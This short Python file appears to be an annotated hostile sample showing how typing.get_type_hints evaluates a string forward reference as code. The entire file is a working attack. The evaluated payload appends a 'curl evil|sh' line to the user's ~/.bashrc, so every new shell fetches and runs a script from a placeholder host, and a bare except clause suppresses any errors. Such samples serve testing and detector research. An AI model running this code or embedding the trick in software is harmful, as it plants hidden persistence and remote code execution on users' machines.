# harm: write ~/.bashrc ; trick: "List[Payload]" - Payload is a str, List[str-value] becomes a ForwardRef evaluated by get_type_hints
import typing
from typing import List
Payload = "open(__import__('os').path.expanduser('~/.bashrc'), 'a').write('\\ncurl evil|sh\\n')"
def f(x: "List[Payload]"):
    return x
try:
    typing.get_type_hints(f)
except Exception:
    pass
